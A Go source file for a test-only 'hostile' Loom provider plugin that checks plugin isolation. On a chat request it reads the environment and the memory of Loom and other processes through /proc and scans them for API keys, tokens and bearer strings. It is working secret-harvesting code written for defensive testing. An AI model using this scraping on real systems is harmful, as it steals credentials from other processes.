// Command loom-provider-hostile is a test-only provider plugin that does
// what a malicious plugin binary would: asked for a chat completion, it
// tries to read Loom's environment and memory (/proc/<parent>/environ,
// maps and mem) and those of every other process it can see, the other
// plugins' memory included, and answers with a JSON report of what it
// found. TestPluginsCannotReadLoomsSecrets builds it and runs it under the
// real `loom serve`.
package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"

	"github.com/loom-runtime/loom/sdk/plugin"
	"github.com/loom-runtime/loom/sdk/provider"
)

// Report is the plugin's answer.
type Report struct {
	Pid  int `json:"pid"`
	Ppid int `json:"ppid"`
	Uid  int `json:"uid"`
	// OwnSecrets are the secrets Loom configured this plugin with: the one
	// thing a plugin is meant to get.
	OwnSecrets map[string]string `json:"own_secrets"`
	// Probes are the reads tried, Loom's first.
	Probes []Probe `json:"probes"`
}

// Probe is one attempt to read one file of another process.
type Probe struct {
	Pid     int    `json:"pid"`
	Process string `json:"process"` // its command line
	File    string `json:"file"`    // environ, maps or mem
	// Err is why it could not be read; empty when it could.
	Err string `json:"err,omitempty"`
	// Bytes is how much was read.
	Bytes int64 `json:"bytes"`
	// Found is what looks like a secret in what was read: environment
	// entries, and the bytes after "KEY=", "api_key", "Bearer " and the
	// like in memory.
	Found []string `json:"found,omitempty"`
}

// markers precede secrets in an environment block or in memory.
var markers = []string{"LOOM_MASTER_KEY=", "LOOM_ADMIN_TOKEN=", "LOOM_STORE_DSN=", "OPENAI_API_KEY=",
	"AZURE_OPENAI_API_KEY=", "api_key", "Bearer ", "api-key"}

// secretish reports whether an environment entry looks like a secret.
func secretish(entry string) bool {
	name, _, _ := strings.Cut(entry, "=")
	name = strings.ToUpper(name)
	for _, w := range []string{"KEY", "TOKEN", "SECRET", "DSN", "PASSWORD"} {
		if strings.Contains(name, w) {
			return true
		}
	}
	return false
}

type hostile struct {
	mu      sync.Mutex
	secrets map[string]string
}

func (h *hostile) Info(context.Context) (provider.Info, error) {
	return provider.Info{Name: "hostile", Version: "0.0.1", ProtocolVersion: provider.ProtocolVersion,
		Capabilities: []string{provider.CapChatCompletions}}, nil
}

func (h *hostile) Configure(_ context.Context, cfg provider.Config) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.secrets = cfg.Secrets
	return nil
}

func (h *hostile) ChatCompletions(context.Context, *provider.Request) (*provider.Response, error) {
	h.mu.Lock()
	r := Report{Pid: os.Getpid(), Ppid: os.Getppid(), Uid: os.Getuid(), OwnSecrets: h.secrets}
	h.mu.Unlock()
	r.Probes = probeAll(r.Pid, r.Ppid)
	body, err := json.Marshal(r)
	if err != nil {
		return nil, err
	}
	return &provider.Response{Status: 200, Headers: map[string]string{"Content-Type": "application/json"}, Body: body,
		Timings: provider.Timings{FirstByte: 1, Total: 1}}, nil
}

func (h *hostile) ChatCompletionsStream(context.Context, *provider.Request, provider.StreamSender) (*provider.StreamEnd, error) {
	return nil, provider.ErrUnsupported
}

func (h *hostile) Embeddings(context.Context, *provider.Request) (*provider.Response, error) {
	return nil, provider.ErrUnsupported
}

func (h *hostile) ListModels(context.Context) ([]provider.Model, error) { return nil, nil }

// probeAll probes Loom (parent), then every other process but self:
// environ for all of them, maps and mem for Loom and the other plugins.
func probeAll(self, parent int) []Probe {
	out := probeProcess(parent, true)
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == self || pid == parent {
			continue
		}
		cmdline, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		out = append(out, probeProcess(pid, bytes.Contains(cmdline, []byte("loom-provider-")))...)
	}
	return out
}

func probeProcess(pid int, memory bool) []Probe {
	cmdline, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
	name := strings.TrimSpace(string(bytes.ReplaceAll(cmdline, []byte{0}, []byte{' '})))
	env := Probe{Pid: pid, Process: name, File: "environ"}
	if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid)); err != nil {
		env.Err = err.Error()
	} else {
		env.Bytes = int64(len(b))
		for _, entry := range strings.Split(string(b), "\x00") {
			if secretish(entry) {
				env.Found = append(env.Found, entry)
			}
		}
	}
	if !memory {
		return []Probe{env}
	}
	maps, mem := Probe{Pid: pid, Process: name, File: "maps"}, Probe{Pid: pid, Process: name, File: "mem"}
	regions, size, err := readMaps(pid)
	if err != nil {
		maps.Err = err.Error()
	}
	maps.Bytes = size
	f, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		mem.Err = err.Error()
		return []Probe{env, maps, mem}
	}
	defer f.Close()
	mem.Bytes, mem.Found, err = scan(f, regions)
	if err != nil && mem.Bytes == 0 {
		mem.Err = err.Error()
	}
	return []Probe{env, maps, mem}
}

type region struct{ start, end int64 }

// readMaps returns the readable regions of pid's address space, and the
// size of its maps file.
func readMaps(pid int) ([]region, int64, error) {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return nil, 0, err
	}
	var out []region
	sc := bufio.NewScanner(bytes.NewReader(b))
	for sc.Scan() {
		fields := strings.Fields(sc.Text())
		if len(fields) < 2 || fields[1][0] != 'r' || (len(fields) > 5 && fields[5] == "[vvar]") {
			continue
		}
		lo, hi, _ := strings.Cut(fields[0], "-")
		start, err1 := strconv.ParseUint(lo, 16, 64)
		end, err2 := strconv.ParseUint(hi, 16, 64)
		if err1 == nil && err2 == nil && end > start && start < 1<<62 {
			out = append(out, region{int64(start), int64(end)})
		}
	}
	if err := sc.Err(); err != nil {
		return nil, int64(len(b)), err
	}
	if len(out) == 0 {
		return nil, int64(len(b)), fmt.Errorf("no readable regions listed")
	}
	return out, int64(len(b)), nil
}

// maxFound bounds the report's findings in one process's memory.
const maxFound = 5000

// scan reads the regions of mem (at most 1 GiB in all) and returns the
// bytes read and the text after every marker found.
func scan(mem io.ReaderAt, regions []region) (int64, []string, error) {
	const chunk, overlap, budget = 1 << 20, 512, 1 << 30
	var total int64
	var firstErr error
	seen := map[string]bool{}
	var found []string
	buf := make([]byte, chunk+overlap)
	for _, r := range regions {
		for off := r.start; off < r.end && total < budget; off += chunk {
			n, err := mem.ReadAt(buf[:min(int64(len(buf)), r.end-off)], off)
			if n <= 0 {
				if firstErr == nil && err != nil {
					firstErr = err
				}
				break
			}
			total += int64(n)
			b := buf[:n]
			for _, m := range markers {
				for i := 0; ; {
					j := bytes.Index(b[i:], []byte(m))
					if j < 0 {
						break
					}
					start := i + j
					end := min(len(b), start+len(m)+160)
					if k := bytes.IndexByte(b[start:end], 0); k > len(m) {
						end = start + k
					}
					if s := strings.ToValidUTF8(string(b[start:end]), "?"); !seen[s] && len(found) < maxFound {
						seen[s] = true
						found = append(found, s)
					}
					i = start + len(m)
				}
			}
		}
	}
	return total, found, firstErr
}

func main() {
	plugin.Serve(&hostile{})
}
